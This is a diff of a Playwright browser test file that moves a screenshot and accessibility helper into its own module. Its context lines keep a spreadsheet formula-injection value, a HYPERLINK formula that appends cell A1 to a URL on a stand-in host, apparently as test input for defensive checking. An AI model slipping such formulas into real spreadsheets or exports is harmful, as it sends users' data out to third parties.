@@ -14,10 +14,10 @@ from playwright.sync_api import Locator, Page, expect
 
 from tests.browser.axe import GUIDELINES, violations
 from tests.browser.conftest import ARTEFACTS, LiveServer, Visitor, serve
+from tests.browser.look import look
 
 pytestmark = pytest.mark.browser
 WITHIN_MS = 20_000
-SIZES = ((1366, 768), (1920, 1080), (390, 844))
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"开")'
 SPREAD = """
 WITH here AS (
@@ -72,17 +72,6 @@ def tab(page: Page, name: str) -> int:
     """Return the number on a tab."""
     text = page.locator(f'[data-tab="{name}"] b').inner_text()
     return int(text.replace(",", ""))
-
-
-def look(page: Page, name: str) -> None:
-    """Look at a page in every size: pictures, guidelines, nothing beyond the edge."""
-    assert violations(page, GUIDELINES) == []
-    for width, height in SIZES:
-        page.set_viewport_size({"width": width, "height": height})
-        page.screenshot(path=ARTEFACTS / f"{name}-{width}x{height}.png")
-        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), width
-    page.set_viewport_size({"width": SIZES[0][0], "height": SIZES[0][1]})
-    assert violations(page, GUIDELINES) == []
 
 
 @pytest.mark.parametrize("locale", ["zh", "en"])
